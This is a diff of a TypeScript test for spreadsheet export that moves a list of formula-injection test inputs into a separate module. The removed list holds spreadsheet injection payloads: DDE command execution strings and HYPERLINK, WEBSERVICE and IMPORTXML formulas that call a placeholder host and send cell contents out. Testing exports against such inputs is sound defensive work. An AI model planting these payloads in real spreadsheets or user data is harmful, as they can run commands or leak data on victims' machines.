@@ -27,30 +27,10 @@ import {
   typedInList,
   typedInReport,
 } from './files-with-formulas.ts'
+import { formulas } from './formula-texts.ts'
 import { cellsIn, savedByLibreOffice } from './opened-again.ts'
 
 /* What somebody types into a field must stay what they typed in every file that we give out, in a real spreadsheet. */
-
-const formulas = [
-  "=cmd|'/c calc'!A1",
-  '=1+1',
-  '+1+1',
-  '-2+3',
-  '@SUM(1)',
-  '\t=1+1',
-  '\r=1+1',
-  '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
-  '=WEBSERVICE("http://192.0.2.1/")',
-  '=DDE("cmd";"/c calc";"x")',
-  '{=1+1}',
-  "'=1+1",
-  '＝1+1',
-  '=IMPORTXML("http://192.0.2.1","//a")',
-  '"=1+1',
-  ';=1+1',
-  '中文,=1+1',
-  '第一行\n=1+1',
-]
 
 function codeOf(index: number): string {
   return `=P+${index}`
